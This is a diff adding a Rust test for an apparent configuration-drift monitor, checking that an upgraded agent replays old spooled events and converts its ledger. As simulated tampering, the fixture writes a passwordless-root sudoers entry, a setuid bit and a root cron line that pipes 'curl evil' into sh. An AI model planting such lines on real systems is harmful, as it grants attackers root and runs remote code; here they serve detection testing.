@@ -656,3 +656,95 @@ fn up_runs_a_collector_and_an_agent_and_an_edit_shows_in_the_fleet_view() {
     let _ = up.kill();
     let _ = up.wait();
 }
+
+/// Copies a directory tree (files and directories only).
+fn copy_tree(from: &std::path::Path, to: &std::path::Path) {
+    fs::create_dir_all(to).unwrap();
+    for entry in fs::read_dir(from).unwrap() {
+        let entry = entry.unwrap();
+        let target = to.join(entry.file_name());
+        if entry.file_type().unwrap().is_dir() {
+            copy_tree(&entry.path(), &target);
+        } else {
+            fs::copy(entry.path(), &target).unwrap();
+        }
+    }
+}
+
+/// An agent upgraded from 0.1 finds a spool of JSON records and a `ledger.json`, made by a real
+/// 0.1 agent whose collector never answered (`tests/fixtures/agent-0.1/make.sh`): every event
+/// in it reaches the collector, typed, with its original number, and the state is converted.
+#[test]
+fn a_spool_and_ledger_of_0_1_are_read_and_sent_after_the_upgrade() {
+    let t = TestDir::new();
+    t.populate();
+    let b = t.baseline();
+    // The edits the 0.1 agent saw, as make.sh made them.
+    t.write_by_rename(
+        "/etc/sudoers",
+        "root ALL=(ALL:ALL) ALL\nmallory ALL=(ALL) NOPASSWD: ALL\n",
+    );
+    fs::remove_file(t.at("/etc/motd")).unwrap();
+    t.chmod("/usr/bin/tool", 0o4755);
+    t.write("/etc/ssh/backdoor", "* * * * * root curl evil | sh\n");
+    let fixture = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/agent-0.1/state");
+    let state = t.path().join("state");
+    copy_tree(&fixture, &state);
+
+    let c = Collector::start(&t.path().join("collector"));
+    let agent = t.start_agent(&b, &t.collector_config(&c, "i-old"));
+    let current = [
+        "/etc/motd",
+        "/etc/ssh/backdoor",
+        "/etc/sudoers",
+        "/usr/bin/tool",
+    ];
+    c.wait_host_paths("i-old", SETTLE, |p| p == current);
+    let events = history(&c, "i-old");
+    let seen: Vec<(u64, &str, &str)> = events
+        .iter()
+        .map(|e| {
+            (
+                e["seq"].as_u64().unwrap(),
+                e["event"].as_str().unwrap(),
+                e["path"].as_str().unwrap(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        seen,
+        [
+            (1, "drifted", "/etc/sudoers"),
+            (2, "drifted", "/etc/motd"),
+            (3, "drifted", "/usr/bin/tool"),
+            (4, "drifted", "/etc/nginx/nginx.conf"),
+            (5, "resolved", "/etc/nginx/nginx.conf"),
+            (6, "drifted", "/etc/ssh/backdoor"),
+        ],
+        "every spooled event once, in order, with its number; nothing new\n{}",
+        agent.log_text()
+    );
+    assert!(events.iter().all(|e| e["source"] == "stream"));
+    assert_eq!(events[0]["item"]["severity"], "security");
+    assert!(
+        events[0]["item"]["diff"]
+            .as_str()
+            .is_some_and(|d| d.contains("+mallory ALL=(ALL) NOPASSWD: ALL")),
+        "{:#}",
+        events[0]
+    );
+    // The collector's set is `check`'s, and the agent's digest agrees with the collector's
+    // (no snapshot was needed).
+    let (_, check) = t.check_json(&b, &[]);
+    let mut checked = drift_paths(&check);
+    checked.sort();
+    assert_eq!(checked, current);
+    assert!(state.join("ledger.pb").exists());
+    assert!(!state.join("ledger.json").exists(), "converted once");
+    std::thread::sleep(Duration::from_secs(3));
+    assert!(
+        !c.log_text().contains("asking for a snapshot"),
+        "the converted ledger's digest must match what the collector stored:\n{}",
+        c.log_text()
+    );
+}
